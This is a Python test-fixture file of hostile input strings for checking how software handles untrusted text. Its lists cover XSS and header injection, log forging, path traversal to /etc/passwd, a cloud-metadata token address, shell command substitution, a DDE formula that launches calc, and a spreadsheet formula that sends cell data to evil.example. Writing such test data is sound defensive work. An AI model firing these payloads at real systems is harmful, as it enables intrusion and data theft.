"""What strangers try, wherever a text of theirs comes in."""

INJECTIONS = {
    "header": "a\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "log line": "a\n2026-11-22T00:00:00.000Z ERROR forged",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"more")',
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "template": "{{7*7}}${7*7}{%debug%}",
    "format": "%s%n%x{0.__class__}",
    "query": "' | union database('other').Secrets // \"; drop table x; --",
    "path": "../../../../../../etc/passwd",
    "path, encoded": "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "path, of Windows": "..\\..\\..\\windows\\win.ini",
    "path, absolute": "/etc/passwd",
    "address": "http://169.254.169.254/metadata/identity/oauth2/token",
    "address, without scheme": "//evil.example/x",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b2J",
    "direction": "\u202egpj.exe\u2066",
    "null": "a\x00b",
    "half a pair": "\ud83d",
    "long": "x" * 70_000,
    "deep": "[" * 5_000,
    "number": "1e999",
    "digits of elsewhere": "\u0661\u0662\u0663",
}
FORGED = "2026-11-22T00:00:00.000Z ERROR forged"
"""What would be a line of the log by itself."""
ARGUMENTS = {name: text for name, text in INJECTIONS.items() if name not in ("null", "half a pair")} | {
    "empty": "",
    "blank": " \t ",
    "longest": "x" * 100_000,
    "no UTF-8": "a\udcffb\udc9b",
    "option": "--help",
    "home": "~root",
    "shell": "$(id)`id`;id|id&id",
    "formula of a command": "=cmd|'/C calc'!A0",
    "setting": "%PATH%",
    "file": "@/etc/passwd",
}
"""What comes as an argument of a command: no system passes NUL there, and each byte that is no UTF-8 is half a pair."""
